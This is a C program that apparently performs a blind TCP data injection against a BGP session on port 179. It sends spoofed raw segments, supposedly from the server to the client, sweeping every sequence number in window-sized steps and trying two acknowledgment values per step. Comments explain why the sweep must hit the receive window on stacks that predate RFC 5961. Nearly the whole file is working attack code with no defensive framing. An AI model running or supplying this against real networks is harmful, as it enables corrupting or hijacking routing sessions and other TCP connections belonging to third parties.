/* Blind injection: text for the middle of a stream that the attacker cannot see. It lands where its sequence number is in
   the window and its acknowledgment number is believed: before RFC 5961 that was half of all there are, so that two of them
   do. A window of 2 MiB has room in the sequence space 2,048 times: with one try for each the whole of it is searched, and
   one try must lie in the window, wherever that is. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "segment.h"

#define CLIENT "10.0.1.10"
#define CPORT 40000
#define SERVER "10.0.2.80"
#define SPORT 179
#define STEP 2000000 /* no further apart than the window is wide */
#define STEPS 2148   /* once around: 4,294,967,296 / STEP */

int main(void) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), i;
  unsigned int seq = 0;
  char text[1401] = "";

  /* So long that no segment of the stream covers all of it: what is covered when it comes is not kept. */
  for (i = 0; i + 9 < 1400; i += 9)
    memcpy(text + i, "INJECTED\n", 9);
  for (i = 0; i < STEPS; i++) {
    segment(s, SERVER, SPORT, CLIENT, CPORT, seq, 0, ACK, text);
    segment(s, SERVER, SPORT, CLIENT, CPORT, seq, 0x80000000, ACK, text);
    seq += STEP;
    usleep(250);
  }
  return 0;
}
